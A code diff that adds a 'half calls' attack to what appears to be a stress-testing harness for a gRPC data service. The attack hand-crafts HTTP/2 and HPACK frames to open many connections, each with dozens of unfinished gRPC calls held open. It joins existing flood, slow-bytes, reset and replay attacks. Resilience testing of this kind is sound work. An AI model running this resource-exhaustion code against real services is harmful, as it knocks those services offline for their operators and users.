@@ -27,6 +27,10 @@ RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close with RST
 GREETING = b"dlc/2 group "
 NONCE = b"a" * 64
 PURPOSES = ("group", "probe", "exec", "batch", "lease")
+HALF_CALLS = 32  # on a connection
+HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS, HEADERS, END_HEADERS = 4, 1, 4
+CALLED = (b"/dlc.dataservice.Control/Challenge", b"/dlc.dataservice.Control/Describe", b"/grpc.health.v1.Health/Watch")
 
 
 @dataclass(frozen=True)
@@ -137,6 +141,32 @@ def resets(target: Target) -> Iterator[None]:
         yield
 
 
+def half_calls(target: Target) -> Iterator[None]:
+    """Calls of gRPC whose requests do not come, on connections that stay open for as long as they may."""
+    held: list[socket.socket] = []
+    for path in itertools.cycle(CALLED):
+        sock = target.connect()
+        held.append(sock)
+        calls = [_frame(HEADERS, END_HEADERS, 2 * number + 1, _headers(path)) for number in range(HALF_CALLS)]
+        sock.sendall(HTTP2 + _frame(SETTINGS, 0, 0, b"") + b"".join(calls))
+        if len(held) >= MOST_HELD // 10:
+            held.pop(0).close()
+        time.sleep(SLOW / 10)
+        yield
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """Return a frame of HTTP/2."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def _headers(path: bytes) -> bytes:
+    """Return the headers of a call as HPACK writes them: POST and http out of its table, the others as text."""
+    post_http, path_name, authority, content_type = b"\x83\x86", b"\x04", b"\x01", b"\x0f\x10"
+    texts = ((path_name, path), (authority, b"x"), (content_type, b"application/grpc"), (b"\x00\x02te", b"trailers"))
+    return post_http + b"".join(name + bytes((len(text),)) + text for name, text in texts)
+
+
 def replay(target: Target) -> Iterator[None]:
     """What a host of this job has sent before, byte for byte."""
     while True:
@@ -151,6 +181,7 @@ ATTACKS: dict[str, Callable[[Target], Iterator[None]]] = {
     "a flood": flood,
     "slow bytes": slow_bytes,
     "resets": resets,
+    "half calls": half_calls,
     "replay": replay,
 }
 
